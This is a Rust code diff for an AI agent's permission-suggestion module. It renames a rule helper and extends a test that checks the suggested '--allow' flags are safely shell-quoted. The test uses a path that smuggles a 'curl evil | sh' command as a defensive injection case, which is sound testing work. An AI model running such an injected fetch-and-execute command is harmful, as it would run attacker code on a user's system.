@@ -5,7 +5,8 @@ use std::path::Path;
 use plimsoll_config::{Action, Origin, PermissionRule, Permissions};
 use serde_json::Value;
 
-use super::{Access, Bounds, Subject, remembered_rule};
+use super::rules::suggested_rule;
+use super::{Access, Bounds, Subject};
 use crate::agent::{Bound, Profile};
 
 /// Where a setting is written that is not there yet. A change of a project's file takes effect once its user trusts it.
@@ -75,8 +76,8 @@ impl AllowHint {
         // What is denied to `read` is denied to these, so that a rule for one of them would change nothing.
         let candidates = || {
             let shows_files = matches!(tool, "grep" | "list" | "glob");
-            let reading = shows_files.then(|| remembered_rule("read", subject, project));
-            std::iter::once(remembered_rule(tool, subject, project)).chain(reading)
+            let reading = shows_files.then(|| suggested_rule("read", subject, project));
+            std::iter::once(suggested_rule(tool, subject, project)).chain(reading)
         };
         let flag = candidates().find(|rule| allows(rule, Layer::Agent)).map(|rule| flag_for(&rule));
         let general = candidates().find(|rule| allows(rule, Layer::General));
@@ -228,19 +229,22 @@ mod tests {
     use std::path::Path;
 
     use super::{flag_for, setting_for};
-    use crate::permissions::{Subject, remembered_rule};
+    use crate::permissions::Subject;
+    use crate::permissions::rules::suggested_rule;
 
     #[test]
     fn the_flag_that_is_suggested_can_be_pasted() {
         let path = |path: &str| Subject::Path { named: path.into(), real: path.into() };
         let command = |line: &str| Subject::Command(line.into());
-        let rule = |tool, subject: &Subject| remembered_rule(tool, subject, Path::new("/project"));
+        let rule = |tool, subject: &Subject| suggested_rule(tool, subject, Path::new("/project"));
         let evil = path("/tmp/a'; curl evil | sh; '/b");
         assert_eq!(flag_for(&rule("read", &evil)), "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'");
         let cargo = rule("bash", &command("cargo test -q"));
         assert_eq!(flag_for(&cargo), "--allow 'bash:cargo test *'");
         assert_eq!(setting_for("permissions", &cargo), "permissions.bash.\"cargo test *\" = \"allow\"");
         assert_eq!(flag_for(&rule("bash", &command("a; b"))), "--allow 'bash:a; b'");
+        // With its arguments open it would allow `--output=.git/config`, about which nobody is asked in a run.
+        assert_eq!(flag_for(&rule("bash", &command("git log -3"))), "--allow 'bash:git log -3'");
         assert_eq!(flag_for(&rule("write", &path("/project/src/a.rs"))), "--allow 'write:src/a.rs'");
         let page = Subject::Address("https://example.org/a?b=c".into());
         assert_eq!(flag_for(&rule("webfetch", &page)), "--allow 'webfetch:https://example.org/*'");
